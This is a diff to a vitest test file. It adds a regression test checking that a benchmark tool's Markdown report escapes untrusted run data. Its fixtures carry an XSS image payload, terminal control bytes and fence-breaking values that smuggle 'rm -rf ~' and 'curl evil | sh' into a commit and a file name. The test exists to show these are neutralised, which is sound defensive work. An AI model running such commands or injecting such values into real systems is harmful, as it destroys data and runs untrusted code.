@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { renderMarkdown, mdCell } from '../../../src/report/markdown.ts';
+import { renderMarkdown } from '../../../src/report/markdown.ts';
+import { mdInline as mdCell } from '../../../src/util/markdown-text.ts';
 import { renderReports } from '../../../src/report/index.ts';
 import { renderTerminal } from '../../../src/report/terminal.ts';
 import { makeDoc, makeStep, makeTarget, sampleRun } from '../../helpers/sample-run.ts';
@@ -101,5 +102,48 @@ describe('renderMarkdown', () => {
 
   it('escapes table cells', () => {
     expect(mdCell('a | b\nc <script>x</script> < 50 ms')).toBe('a \\| b c &lt;script>x&lt;/script> < 50 ms');
+  });
+});
+
+describe('#23 defect 3: run.json text in report.md is escaped everywhere, not only in table cells', () => {
+  const HOSTILE = '<img src=x onerror=alert(1)> **bold** `code` [link](http://e.x) \u001b[2J\u009b31m';
+  function hostileDoc() {
+    const d = makeDoc([
+      makeTarget({ name: 'go-chi', configuration: 'default', steps: [makeStep({ kind: 'max', achievedRps: 30_000, corrected: null })] }),
+      makeTarget({ name: `fastapi${HOSTILE}`, configuration: `cfg${HOSTILE}`, status: 'failed', reason: `crashed ${HOSTILE}`, steps: [] }),
+    ]);
+    d.startedAt = `2026-05-01 ${HOSTILE}`;
+    d.claimsSource = `Source ${HOSTILE}`;
+    d.claims![0]!.quote = `Quote ${HOSTILE}`;
+    d.environment.cpuModel = `CPU ${HOSTILE}`;
+    d.environment.gitCommit = 'abc```\nrm -rf ~; echo $(id)';
+    d.scenarioFile = 'x.yaml```\n; curl evil | sh #';
+    return d;
+  }
+  const md = renderMarkdown(buildReportModel(hostileDoc()), { renderedAt: RENDERED_AT });
+
+  it('shows no raw HTML, control byte or Markdown from the document', () => {
+    expect(md).not.toMatch(/<img|[\u001b\u009b]/);
+    expect(md).not.toContain('**bold**');
+    expect(md).not.toContain('`code`');
+    expect(md).not.toContain('[link](');
+    for (const where of ['run started 2026-05-01 ', 'Claims quoted from Source ', '> Quote ', 'Hardware: ', '### fastapi', 'crashed ']) {
+      expect(md, where).toContain(where);
+    }
+    expect(md).toContain('&lt;img src=x onerror=alert(1)> \\*\\*bold\\*\\* \\`code\\` \\[link\\](http://e.x) \\\\x1b\\[2J\\\\x9b31m');
+  });
+
+  it('keeps the Reproduce block one fenced block of quoted shell words', () => {
+    const block = md.slice(md.indexOf('## Reproduce'));
+    const lines = block.split('\n').slice(2);
+    const fence = lines[0]!.replace(/sh$/, '');
+    expect(fence).toMatch(/^`{4,}$/);
+    const close = lines.indexOf(fence, 1);
+    const body = lines.slice(1, close);
+    // Nothing inside can close the fence, and every line is one command with its argument quoted.
+    expect(body.some((l) => l.startsWith(fence))).toBe(false);
+    expect(body[0]).toBe("git checkout 'abc```\\x0arm -rf ~; echo $(id)'");
+    expect(body[1]).toBe("httpbench run --scenario 'x.yaml```\\x0a; curl evil | sh #'");
+    expect(body).toHaveLength(3);
   });
 });
